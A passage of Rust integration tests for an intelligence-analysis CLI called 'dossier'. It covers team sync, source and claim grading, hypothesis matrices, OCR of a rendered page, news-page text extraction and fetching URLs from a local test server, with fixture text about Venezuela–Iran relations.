        .args(["--db", carol_db.to_str().unwrap(), "sync", "--server", &analyst])
        .env("PGPASSWORD", "carol's password")
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let (lines, heard) = std::sync::mpsc::channel();
    let output = running.stdout.take().unwrap();
    std::thread::spawn(move || {
        use std::io::BufRead;
        for line in std::io::BufReader::new(output).lines().map_while(Result::ok) {
            let _ = lines.send(line);
        }
    });
    let first = heard.recv_timeout(std::time::Duration::from_secs(20)).expect("a first sync");
    assert!(first.starts_with("pushed 0 operations"), "{first}");
    let noted = dossier(&alice_db, &["actors", "add", "Conviasa", "--kind", "organization"]);
    assert!(noted.status.success(), "{}", stderr(&noted));
    assert!(sync(&alice_db, "alice", None).status.success());
    let pulled =
        heard.recv_timeout(std::time::Duration::from_secs(20)).expect("carol's sync pulls without waiting 30 s");
    assert!(pulled.contains("pulled 1 ("), "{pulled}");
    running.kill().unwrap();
    let _ = running.wait();
    assert!(stdout(&dossier(&carol_db, &["list", "actors"])).contains("Conviasa"));

    let resolve = dossier(&carol_db, &["sync", "--resolve", "42"]);
    assert_eq!(resolve.status.code(), Some(1));
    assert!(stderr(&resolve).contains("no open conflict"), "{}", stderr(&resolve));
    let alone = dossier(&dir.path().join("alone.dossier"), &["sync", "--status"]);
    assert!(stdout(&alone).contains("does not sync with a team"), "{}", stdout(&alone));
}

/// `dossier grade`: a site's default reaches its sources, a source's own grade wins, a
/// claim's credibility is suggested then set, and `--grade` filters the lists.
#[test]
fn grades_are_set_shown_and_filter_the_lists() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("library.dossier");
    let page = dir.path().join("pact.html");
    std::fs::write(
        &page,
        "<html><head><title>Caracas and Tehran sign a defence pact</title>\
         <meta property=\"og:url\" content=\"https://www.wire-example.com/world/pact\"></head>\
         <body><article><p>Venezuela and Iran signed a military cooperation agreement in June 2023, \
         state media reported. Hezbollah operatives were allegedly present.</p></article></body></html>",
    )
    .unwrap();
    succeed(&db, &["import", page.to_str().unwrap()]);
    succeed(&db, &["suggestions", "accept", "--source", "1", "--all"]);

    let shown = succeed(&db, &["grade", "source", "1"]);
    assert!(shown.contains("not graded, no grade of its own or of its site"), "{shown}");
    let site = succeed(&db, &["grade", "site", "WWW.wire-example.com", "b"]);
    assert!(site.starts_with("wire-example.com: B (Usually reliable) by default; 1 source(s), 1 taking"), "{site}");
    let shown = succeed(&db, &["grade", "source", "1"]);
    assert!(shown.contains("B (Usually reliable), the default of wire-example.com"), "{shown}");
    let json: serde_json::Value =
        serde_json::from_str(&succeed(&db, &["grade", "source", "1", "a", "--json"])).unwrap();
    assert_eq!(
        (json["own"].as_str(), json["site_default"].as_str(), json["reliability"].as_str()),
        (Some("A"), Some("B"), Some("A"))
    );
    assert!(succeed(&db, &["grade", "sites"]).starts_with("B      1 sources (    0 taking it)  wire-example.com"));

    let claims: serde_json::Value = serde_json::from_str(&succeed(&db, &["list", "claims", "--json"])).unwrap();
    let claim = claims["items"][0]["id"].as_i64().expect("the import suggests a claim").to_string();
    let shown = succeed(&db, &["grade", "claim", &claim]);
    assert!(shown.contains("suggested: "), "{shown}");
    let set = succeed(&db, &["grade", "claim", &claim, "5"]);
    assert!(set.contains(": A5 — A (Completely reliable); Improbable, graded by a person"), "{set}");
    let listed = |grade: &str| -> serde_json::Value {
        serde_json::from_str(&succeed(&db, &["list", "claims", "--grade", grade, "--json"])).unwrap()
    };
    assert_eq!(
        listed("A5")["items"].as_array().unwrap().iter().filter(|c| c["id"] == claim.parse::<i64>().unwrap()).count(),
        1
    );
    assert_eq!(
        listed("A4")["items"].as_array().unwrap().iter().filter(|c| c["id"] == claim.parse::<i64>().unwrap()).count(),
        0
    );

    let bad = dossier(&db, &["grade", "claim", &claim, "9"]);
    assert_eq!(bad.status.code(), Some(1));
    assert!(stderr(&bad).contains("1 to 6"), "{}", stderr(&bad));
    let bad = dossier(&db, &["list", "claims", "--grade", "Z9"]);
    assert_eq!(bad.status.code(), Some(1));
    // Each grade is a change in the history, undone one at a time.
    let history = succeed(&db, &["history"]);
    assert!(history.contains("Graded the site wire-example.com B (usually reliable) by default"), "{history}");
    succeed(&db, &["undo"]);
    assert!(succeed(&db, &["grade", "claim", &claim]).contains("suggested: "));
}

/// `dossier hypotheses`: a question, two hypotheses, claims rated, and the matrix read.
#[test]
fn hypotheses_build_a_matrix_that_reads_which_is_least_contradicted() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("library.dossier");
    let file = dir.path().join("pact.txt");
    std::fs::write(&file, DISPATCH).unwrap();
    succeed(&db, &["import", file.to_str().unwrap()]);
    succeed(&db, &["suggestions", "accept", "--source", "1", "--all"]);
    let claims: serde_json::Value = serde_json::from_str(&succeed(&db, &["list", "claims", "--json"])).unwrap();
    let ids: Vec<String> = claims["items"].as_array().unwrap().iter().map(|c| c["id"].to_string()).collect();
    assert!(!ids.is_empty());

    assert_eq!(succeed(&db, &["hypotheses", "new", "Why did Caracas sign?"]), "question #1\n");
    assert_eq!(succeed(&db, &["hypotheses", "add", "1", "A military alliance"]), "hypothesis #1\n");
    succeed(&db, &["hypotheses", "add", "1", "Only trade", "--notes", "the ministry's line"]);
    let mut evidence = vec!["hypotheses", "evidence", "1"];
    evidence.extend(ids.iter().map(String::as_str));
    assert!(succeed(&db, &evidence).starts_with(&format!("{} claim(s) brought", ids.len())));
    succeed(&db, &["hypotheses", "rate", "1", &ids[0], "c", "--comment", "a defence pact"]);
    let rated = succeed(&db, &["hypotheses", "rate", "2", &ids[0], "II"]);
    assert!(rated.ends_with("very inconsistent\n"), "{rated}");

    let matrix = succeed(&db, &["hypotheses", "matrix", "1"]);
    assert!(matrix.contains("H1  #1    A military alliance"), "{matrix}");
    assert!(
        matrix.contains(
            "H1 “A military alliance” has the least evidence against it (weighted inconsistency 0.00); then H2 "
        ),
        "{matrix}"
    );
    let json: serde_json::Value =
        serde_json::from_str(&succeed(&db, &["hypotheses", "matrix", "1", "--json"])).unwrap();
    assert_eq!(json["rows"][0]["cells"][0]["rating"], "C");
    assert_eq!(json["rows"][0]["cells"][0]["comment"], "a defence pact");
    assert!(json["scores"][1]["inconsistency"].as_f64().unwrap() > 0.0);
    assert!(succeed(&db, &["hypotheses"]).starts_with("#1     2 hypotheses"));

    let bad = dossier(&db, &["hypotheses", "rate", "1", &ids[0], "maybe"]);
    assert_eq!(bad.status.code(), Some(1));
    assert!(stderr(&bad).contains("CC, C, N, I or II"));
    succeed(&db, &["hypotheses", "delete", "1"]);
    assert!(succeed(&db, &["hypotheses"]).starts_with("no questions yet"));
    succeed(&db, &["undo"]);
    assert!(succeed(&db, &["hypotheses", "matrix", "1"]).contains("has the least evidence against it"));
}

/// A photographed page: rendered with pango-view (which `make test` installs), read by
/// Tesseract from a reader process, searchable, with its confidence listed; with
/// `--no-ocr` it is kept with no text, and the import says why.
#[test]
fn a_photographed_page_is_read_by_ocr_in_a_reader_process() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("library.dossier");
    let text = dir.path().join("memo.txt");
    std::fs::write(&text, "A memorandum seen by reporters lists spare parts for drones shipped to La Guaira.").unwrap();
    let picture = dir.path().join("memo.png");
    let rendered = Command::new("pango-view")
        .args(["--font=DejaVu Serif 12", "--dpi=300", "--margin=100", "--width=400", "--wrap=word", "-q"])
        .arg(format!("--output={}", picture.display()))
        .arg(&text)
        .output()
        .expect("pango-view renders the test page; `make test-deps` installs it");
    assert!(rendered.status.success(), "{}", String::from_utf8_lossy(&rendered.stderr));

    let import = dossier(&db, &["import", "--json", "--ocr-languages", "eng", picture.to_str().unwrap()]);
    assert!(import.status.success(), "{}", stderr(&import));
    let list: serde_json::Value = serde_json::from_str(&succeed(&db, &["list", "sources", "--json"])).unwrap();
    let source = &list["items"][0];
    assert_eq!(source["media_type"], "image/png", "{source}");
    assert!(source["ocr_confidence"].as_i64().is_some_and(|c| c >= 80), "{source}");
    assert!(succeed(&db, &["search", "memorandum"]).contains("memo"), "the OCR'd text is searchable");

    let other = dir.path().join("other.dossier");
    let unread = succeed(&other, &["import", "--no-ocr", picture.to_str().unwrap()]);
    assert!(unread.contains("imported") && unread.contains("OCR is off"), "{unread}");
}

/// Main text on news pages nobody tuned the extractor for before they were measured:
/// 30 pages we wrote in the style of real sites (navigation, consent banners, "read
/// also" boxes, pull quotes, galleries, comments, live blogs), a tuning half and a
/// held-out half (tests/fixtures/news-unseen). Before the boilerplate names were
/// extended: F1 0.952 (tuning) and 0.958 (held out); after: 0.967 and 0.967 (precision
/// is what is left to win: 0.940 and 0.946, recall 0.999 and 0.993).
#[test]
fn html_import_keeps_the_main_text_of_unseen_news_pages() {
    for (half, pages) in [("dev", 15), ("held-out", 15)] {
        let folder = fixtures().join("news-unseen").join(half);
        let scratch = tempfile::tempdir().unwrap();
        let eval =
            dossier(&scratch.path().join("unused.dossier"), &["eval-import", "--json", folder.to_str().unwrap()]);
        assert!(eval.status.success(), "{}", stderr(&eval));
        let f: serde_json::Value = serde_json::from_slice(&eval.stdout).unwrap();
        let rate = |k: &str| f[k].as_f64().unwrap();
        eprintln!(
            "unseen news ({half}): {} pages, title {:.3}, byline {:.3}, body precision {:.4}, recall {:.4}, F1 {:.4}",
            f["pages"],
            rate("title_rate"),
            rate("byline_rate"),
            rate("mean_precision"),
            rate("mean_recall"),
            rate("mean_f1")
        );
        assert_eq!(f["pages"], pages, "{half}");
        assert_eq!(f["failed"], 0, "{half}");
        // Held out: 13 of 15 titles as the page gives them (0.867), bylines 0.800.
        assert!(rate("title_rate") >= 0.85, "{half}");
        assert!(rate("mean_f1") >= 0.96, "{half}: body F1 {}", rate("mean_f1"));
    }
}

/// Serves `body` as text/html at every path of a free port of 127.0.0.1, for `answers`
/// requests; returns the base address.
fn serve_page(body: &'static str, answers: usize) -> String {
    use std::io::{BufRead, BufReader, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for stream in listener.incoming().take(answers) {
            let Ok(mut stream) = stream else { continue };
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut line = String::new();
            while reader.read_line(&mut line).unwrap_or(0) > 0 && !line.ends_with("\r\n\r\n") {}
            let head = format!(
                "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                body.len()
            );
            let _ = stream.write_all(head.as_bytes()).and_then(|_| stream.write_all(body.as_bytes()));
        }
    });
    base
}

#[test]
fn a_web_address_is_fetched_and_kept_with_its_address_and_a_dead_one_fails_with_a_reason() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("library.dossier");
    let page = "<html><head><title>Port deal worries Washington</title></head><body><article><h1>Port deal worries \
                Washington</h1><p>Iran and Venezuela agreed to expand the port of La Guaira, officials said on Monday, \
                in a deal that the State Department called a concern for the region.</p></article></body></html>";
    let base = serve_page(page, 1);
    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
    let address = format!("{base}/world/port-deal");
    let dead = format!("http://{closed}/gone");
    let import = dossier(&db, &["import", "--json", &address, &dead]);
    assert_eq!(import.status.code(), Some(1), "a link that fails fails the run: {}", stderr(&import));
    let report: serde_json::Value = serde_json::from_slice(&import.stdout).unwrap();
    assert_eq!((report["imported"].as_i64(), report["failed"].as_i64()), (Some(1), Some(1)), "{report}");
    let files = report["files"].as_array().unwrap();
    let failed = files.iter().find(|f| f["path"] == dead.as_str()).unwrap();
    assert!(failed["reason"].as_str().unwrap().contains(&closed.ip().to_string()), "{failed}");

    let list = dossier(&db, &["list", "sources", "--json"]);
    let listed: serde_json::Value = serde_json::from_slice(&list.stdout).unwrap();
    let source = &listed["items"][0];
    assert_eq!(source["title"], "Port deal worries Washington");
    assert_eq!(source["url"], address.as_str());
}
